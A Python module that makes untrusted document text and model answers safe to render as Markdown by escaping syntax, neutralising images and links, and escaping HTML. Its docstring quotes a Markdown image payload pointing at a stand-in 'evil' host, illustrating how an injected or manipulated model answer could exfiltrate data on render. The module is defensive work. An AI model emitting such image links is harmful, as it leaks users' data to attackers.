"""Text from documents, file names and the model, made safe to show as Markdown.

Documents are untrusted, and so is the model once it has read them: `![x](https://evil/?q=...)`
in a passage or an answer would make the browser fetch that URL the moment it is shown. Passages
and names are shown as literal text; model answers keep their emphasis and lists, but images are
never rendered, links are shown with their target as text, and HTML is shown as text. The page's
Content-Security-Policy (`img-src 'self' data: blob:`) is the backstop (app/web/edge.py).
"""

from __future__ import annotations

import re

# What gives inline text a meaning in (GitHub-flavoured) Markdown: emphasis, code, links and
# images, tables, strike-through. HTML specials are turned into entities separately.
_LITERAL = re.compile(r"([\\`*_\[\]!|~])")
_INLINE_LINK = re.compile(r"!?\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_REFERENCE_DEF = re.compile(r"^( {0,3})\[([^\]\n]+)\]:", re.MULTILINE)


def _html(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def literal(text: str) -> str:
    """Show `text` exactly as written (a passage, a file name, a section title)."""
    return _LITERAL.sub(r"\\\1", _html(text))


def model_output(text: str) -> str:
    """An answer's Markdown without anything that loads or hides a URL."""
    out: list[str] = []
    pos = 0
    for m in _INLINE_LINK.finditer(text):
        out.append(_plain(text[pos : m.start()]))
        label, target = m.group(1), m.group(2)
        if not target:
            out.append(literal(m.group(0)))
        else:
            out.append(f"{literal(label)} ({literal(target)})" if label else literal(target))
        pos = m.end()
    out.append(_plain(text[pos:]))
    return "".join(out)


def _plain(segment: str) -> str:
    """Markdown outside links: HTML shown as text, no reference definitions, no image syntax."""
    segment = _html(segment)
    segment = _REFERENCE_DEF.sub(lambda m: f"{m.group(1)}\\[{m.group(2)}\\]:", segment)
    return segment.replace("![", "!\\[")
